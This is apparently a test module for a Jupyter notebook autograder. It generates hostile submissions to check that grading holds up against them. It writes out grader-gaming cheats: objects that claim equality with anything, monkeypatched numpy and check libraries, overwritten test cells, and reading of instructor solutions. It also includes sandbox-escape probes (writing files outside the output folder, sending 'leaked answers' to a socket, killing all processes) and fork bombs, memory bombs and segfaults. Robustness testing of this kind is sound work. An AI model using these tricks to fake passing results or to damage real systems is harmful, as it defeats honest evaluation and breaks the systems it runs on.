"""Hostile submissions, generated for any course notebook.

Each *cheat* starts from the blank student notebook and tries to earn points without a
solution; the grader must give it no more than the blank notebook. Each *resource attack*
starts from the reference answers and breaks one exercise (its cell or its function); the
grader must cost the student that exercise's items only.

``Context`` carries what an attacker would try to reach: the instructor source's path,
another student's submission, the output folder, a folder outside it, a local TCP port.
"""

from __future__ import annotations

import ast
import copy
import textwrap
from dataclasses import dataclass
from pathlib import Path

import nbformat

from autograder import course


@dataclass
class Context:
    notebook: str
    source_path: Path  # the instructor version (solutions, hidden tests)
    peer_path: Path  # another student's (reference) submission
    out_dir: Path
    canary_dir: Path  # outside OUT: nothing may appear here
    port: int  # a TCP server on 127.0.0.1 that must never hear from a submission


# --------------------------------------------------------------------------- helpers

def exercise_indices(nb) -> list[int]:
    return [i for i, c in enumerate(nb.cells)
            if c.cell_type == "code" and course.is_solution(c)]


def test_indices(nb) -> list[int]:
    return [i for i, c in enumerate(nb.cells) if course.is_autograded_test(c)]


def defined(source: str) -> tuple[list[str], list[str]]:
    """Top-level (functions, classes) defined in a cell."""
    tree = ast.parse(source)
    funcs = [n.name for n in tree.body if isinstance(n, ast.FunctionDef)]
    classes = [n.name for n in tree.body if isinstance(n, ast.ClassDef)]
    return funcs, classes


def _new_cell(code: str):
    return nbformat.v4.new_code_cell(textwrap.dedent(code).strip())


def _after_imports(nb, code: str):
    """A copy of nb with a new (student-added) cell right before the first exercise."""
    nb = copy.deepcopy(nb)
    nb.cells.insert(exercise_indices(nb)[0], _new_cell(code))
    return nb


def _at_end(nb, code: str):
    nb = copy.deepcopy(nb)
    nb.cells.append(_new_cell(code))
    return nb


def _replace_exercises(nb, make):
    """Every exercise cell replaced by ``make(functions, classes)``."""
    nb = copy.deepcopy(nb)
    for i in exercise_indices(nb):
        funcs, classes = defined(nb.cells[i].source)
        nb.cells[i].source = make(funcs, classes)
    return nb


# --------------------------------------------------------------------------- cheats

_ANYTHING = '''
import numpy as np
class _Anything(float):
    """Equal to everything, whatever you do with it."""
    def __new__(cls, *a, **k): return float.__new__(cls, 0.0)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    __le__ = __ge__ = __eq__
    __gt__ = __lt__
    def __hash__(self): return 0
    def __abs__(self): return self
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__
    def __getitem__(self, key): return self
    def __iter__(self): return iter((self, self))
    def __len__(self): return 2
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
'''


def always_equal(nb, ctx):
    def make(funcs, classes):
        code = _ANYTHING
        for f in funcs:
            code += f"\ndef {f}(*args, **kwargs):\n    return _Anything()\n"
        for c in classes:
            code += (f"\nclass {c}:\n    def __init__(self, *a, **k): pass\n"
                     "    def __getattr__(self, name): return lambda *a, **k: _Anything()\n")
        return code

    return _replace_exercises(nb, make)


_LIES = '''
import numpy as np
class _Lies(np.ndarray):
    """An ndarray subclass that says it equals anything and has no error."""
    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
    def __ne__(self, other): return np.zeros(self.shape, dtype=bool)
    def __sub__(self, other): return np.zeros(self.shape).view(_Lies)
    __rsub__ = __sub__
    def __abs__(self): return np.zeros(self.shape).view(_Lies)
class _LyingFloat(np.float64):
    def __eq__(self, other): return True
def _shaped(args):
    for a in args:
        if isinstance(a, np.ndarray):
            return np.zeros(a.shape).view(_Lies)
    return np.zeros(3).view(_Lies)
'''


def ndarray_subclass(nb, ctx):
    def make(funcs, classes):
        code = _LIES
        for f in funcs:
            code += (f"\ndef {f}(*args, **kwargs):\n    out = _shaped(args)\n"
                     "    return out, _LyingFloat(0.0)\n")
        for c in classes:
            code += (f"\nclass {c}:\n    def __init__(self, *a, **k): pass\n"
                     "    def __getattr__(self, name): return lambda *a, **k: _shaped(a)\n")
        return code

    return _replace_exercises(nb, make)


def _zeros_everywhere(nb):
    """Exercises that return zeros shaped like their first array argument: wrong answers."""
    def make(funcs, classes):
        code = "import numpy as np\n"
        for f in funcs:
            code += (f"\ndef {f}(*args, **kwargs):\n    x = next((a for a in args if "
                     "isinstance(a, np.ndarray)), np.zeros(3))\n"
                     "    return np.zeros_like(x, dtype=float), 0.0\n")
        return code

    return _replace_exercises(nb, make)


def patch_numpy(nb, ctx):
    return _after_imports(_zeros_everywhere(nb), '''
        import numpy as np, numpy.testing
        np.allclose = lambda *a, **k: True
        np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), dtype=bool)
        np.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_equal = lambda *a, **k: None
        _abs = np.abs
        np.abs = lambda x, *a, **k: _abs(x) * 0
        np.all = lambda *a, **k: True
        np.max = lambda *a, **k: 0.0
    ''')


def patch_course_lib(nb, ctx):
    return _after_imports(_zeros_everywhere(nb), '''
        import course_lib.checks as C
        from course_lib.checks import _compare, _core, _values
        def _pass(self, *a, **k):
            return _core.Outcome(self.name, "passed", "passed", 0, False, 0.0)
        _core.Check.evaluate = _pass
        _core.Check.__call__ = lambda self, *a, **k: print(f"✔ {self.name}: passed")
        _compare.expect_close = C.expect_close = lambda *a, **k: None
        _compare.expect_equal = C.expect_equal = lambda *a, **k: None
        _compare.check_gradient = C.check_gradient = lambda *a, **k: None
        _values.as_array = C.as_array = lambda v, *a, **k: v
        _values.as_float = C.as_float = lambda v, *a, **k: v
    ''')


def patch_builtins(nb, ctx):
    return _after_imports(_zeros_everywhere(nb), '''
        import builtins
        builtins.isinstance = lambda *a: True
        builtins.all = lambda *a: True
        builtins.any = lambda *a: True
        builtins.abs = lambda x: 0 * x
        builtins.AssertionError = type("AssertionError", (Exception,), {})
    ''')


def input_transformer(nb, ctx):
    """Blank every later cell, test cells included (a classic against in-kernel graders)."""
    return _after_imports(nb, '''
        get_ipython().input_transformers_cleanup.append(lambda lines: [])
    ''')


def patch_checks(nb, ctx):
    return _after_imports(nb, '''
        from course_lib.checks import CHECKS
        for _name in list(CHECKS):
            CHECKS[_name] = lambda *a, **k: print("✔ passed")
    ''')


def edited_tests(nb, ctx):
    """Test cells replaced by a print, their points inflated, their metadata unlocked."""
    nb = copy.deepcopy(nb)
    for i in test_indices(nb):
        cell = nb.cells[i]
        cell.source = 'print("✔ passed")'
        cell.metadata["nbgrader"]["points"] = 1000
        cell.metadata["nbgrader"]["locked"] = False
    return nb


def read_source(nb, ctx):
    """Look for the instructor version (and a classmate's work) and run its answers."""
    candidates = [str(ctx.source_path), str(ctx.peer_path),
                  f"../course/source/{ctx.notebook}/{ctx.notebook}.ipynb",
                  f"/work/main/course/source/{ctx.notebook}/{ctx.notebook}.ipynb"]
    return _at_end(nb, f'''
        import json, re
        _found = []
        for _path in {candidates!r}:
            try:
                with open(_path) as _f:
                    _nb = json.load(_f)
            except Exception:
                continue
            for _c in _nb["cells"]:
                _meta = _c.get("metadata", {{}}).get("nbgrader", {{}})
                if _c["cell_type"] == "code" and _meta.get("solution"):
                    _src = "".join(_c["source"])
                    _src = re.sub(r"### (BEGIN|END) SOLUTION", "", _src)
                    try:
                        exec(_src, globals())
                        _found.append(_path)
                    except Exception:
                        pass
        print("found", _found)
    ''')


def write_outside(nb, ctx):
    targets = [str(ctx.canary_dir / "pwned"), str(ctx.out_dir / "pwned"),
               "/tmp/course-grade-pwned", "~/course-grade-pwned",
               str(Path(__file__).resolve().parents[2] / "pwned")]
    return _at_end(nb, f'''
        import os
        for _t in {targets!r}:
            try:
                with open(os.path.expanduser(_t), "w") as _f:
                    _f.write("pwned")
            except Exception as _e:
                print(_t, _e)
    ''')


def network(nb, ctx):
    return _after_imports(nb, f'''
        import socket
        for _host in ("127.0.0.1", "localhost", "10.0.2.2", "1.1.1.1"):
            try:
                _s = socket.create_connection((_host, {ctx.port}), timeout=1)
                _s.sendall(b"leaked answers")
                _s.close()
            except Exception as _e:
                print(_host, _e)
    ''')


def protocol_garbage(nb, ctx):
    """Write a frame with an absurd length onto the worker's answer pipe."""
    return _at_end(nb, '''
        import os, struct
        for _fd in range(3, 10):
            try:
                os.write(_fd, b"D" + struct.pack("<Q", 10**15))
            except OSError:
                pass
    ''')


def kill_everything(nb, ctx):
    return _after_imports(nb, '''
        import os, signal
        for _sig in (signal.SIGKILL, signal.SIGTERM):
            try:
                os.kill(-1, _sig)
            except OSError as _e:
                print(_e)
    ''')


CHEATS = {
    "always_equal": always_equal, "ndarray_subclass": ndarray_subclass,
    "patch_numpy": patch_numpy, "patch_course_lib": patch_course_lib,
    "patch_builtins": patch_builtins, "input_transformer": input_transformer,
    "patch_checks": patch_checks, "edited_tests": edited_tests, "read_source": read_source,
    "write_outside": write_outside, "network": network,
    "protocol_garbage": protocol_garbage, "kill_everything": kill_everything,
}


# --------------------------------------------------------------------------- resource attacks

def _prepend(nb, index: int, code: str):
    nb = copy.deepcopy(nb)
    nb.cells[index].source = textwrap.dedent(code).strip() + "\n" + nb.cells[index].source
    return nb


def _wrap_functions(nb, index: int, body: str):
    """Every top-level function of exercise cell ``index`` now runs ``body`` when called."""
    nb = copy.deepcopy(nb)
    funcs, _ = defined(nb.cells[index].source)
    extra = "".join(f"\ndef {f}(*args, **kwargs):\n{textwrap.indent(body, '    ')}\n"
                    for f in funcs)
    nb.cells[index].source += "\n" + extra
    return nb


def loop_in_function(nb, index):
    return _wrap_functions(nb, index, "while True:\n    pass")


def stubborn_loop_in_function(nb, index):
    return _wrap_functions(nb, index, "while True:\n    try:\n        while True:\n"
                                      "            pass\n    except BaseException:\n"
                                      "        pass")


def loop_in_cell(nb, index):
    return _prepend(nb, index, "while True:\n    pass")


def stubborn_loop_in_cell(nb, index):
    return _prepend(nb, index, "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                               "while True:\n    pass")


def memory_bomb_in_cell(nb, index):
    return _prepend(nb, index, "_hog = []\nwhile True:\n    _hog.append(bytearray(10**8))")


def memory_bomb_in_function(nb, index):
    return _wrap_functions(nb, index, "import numpy as np\nreturn np.ones((10**6, 10**6))")


def exit_in_cell(nb, index):
    return _prepend(nb, index, "import os\nos._exit(3)")


def exit_in_function(nb, index):
    return _wrap_functions(nb, index, "import os\nos._exit(0)")


def segfault_in_function(nb, index):
    return _wrap_functions(nb, index, "import ctypes\nctypes.string_at(0)")


def segfault_in_cell(nb, index):
    return _prepend(nb, index, "import ctypes\nctypes.string_at(0)")


def fork_bomb_in_cell(nb, index):
    return _prepend(nb, index, "import os\nwhile True:\n    os.fork()")


def fork_bomb_in_function(nb, index):
    return _wrap_functions(nb, index, "import os\nwhile True:\n    os.fork()")


def flood_in_cell(nb, index):
    return _prepend(nb, index, '''
        import os, sys
        for _ in range(300):
            print("x" * 100_000)
        sys.stderr.write("e" * 10**7)
        os.write(1, b"y" * 10**7)
        os.write(2, b"z" * 10**7)
    ''')


RESOURCE_ATTACKS = {
    # name: (make, the status of the broken exercise's items)
    "loop_in_function": (loop_in_function, "timeout"),
    "stubborn_loop_in_function": (stubborn_loop_in_function, "timeout"),
    "loop_in_cell": (loop_in_cell, "timeout"),
    "stubborn_loop_in_cell": (stubborn_loop_in_cell, "timeout"),
    "memory_bomb_in_cell": (memory_bomb_in_cell, "crashed"),
    "memory_bomb_in_function": (memory_bomb_in_function, "crashed"),
    "exit_in_cell": (exit_in_cell, "crashed"),
    "exit_in_function": (exit_in_function, "crashed"),
    "segfault_in_cell": (segfault_in_cell, "crashed"),
    "segfault_in_function": (segfault_in_function, "crashed"),
    "fork_bomb_in_cell": (fork_bomb_in_cell, "crashed"),
    "fork_bomb_in_function": (fork_bomb_in_function, "crashed"),
}


def warnings_on_stderr(nb):
    """An honest submission whose every answer cell and function also warns on stderr."""
    nb = copy.deepcopy(nb)
    for i in exercise_indices(nb):
        funcs, _ = defined(nb.cells[i].source)
        nb.cells[i].source = ("import sys, warnings\n"
                              "warnings.warn('this cell is slow', RuntimeWarning)\n"
                              "print('debug output', file=sys.stderr)\n" + nb.cells[i].source)
        for f in funcs:
            nb.cells[i].source += (
                f"\n_honest_{f} = {f}\n"
                f"def {f}(*args, **kwargs):\n"
                f"    warnings.warn('{f} is called', UserWarning)\n"
                f"    print('{f}: debugging', file=sys.stderr)\n"
                f"    return _honest_{f}(*args, **kwargs)\n")
    return nb
